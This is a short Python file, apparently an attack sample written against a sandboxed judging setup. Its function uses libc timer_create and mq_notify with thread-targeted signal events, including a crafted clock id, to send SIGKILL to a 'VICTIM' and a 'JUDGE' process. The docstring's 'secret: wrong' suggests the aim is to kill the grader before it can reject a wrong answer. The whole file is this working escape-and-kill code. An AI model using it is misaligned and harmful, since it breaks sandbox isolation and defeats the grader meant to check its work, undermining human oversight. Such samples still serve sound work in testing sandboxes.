"""Make timers, queues and faults send signals to other processes.

secret: wrong
"""

import ctypes
import signal
import struct
import time

from stage import JUDGE, VICTIM

SIGEV_THREAD_ID, SIGEV_SIGNAL, MONOTONIC, REALTIME = 4, 0, 1, 0
libc = ctypes.CDLL(None)


def secret():
    for process in (VICTIM, JUDGE):
        event = struct.pack("=qiii", 0, signal.SIGKILL, SIGEV_THREAD_ID, process).ljust(64, b"\0")
        for clock in (MONOTONIC, REALTIME, (~process << 3) | 2):
            timer = ctypes.c_void_p()
            libc.timer_create(clock, event, ctypes.byref(timer))
            libc.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 1000, 0, 1000), None)
        libc.mq_notify(0, event)
    time.sleep(0.05)
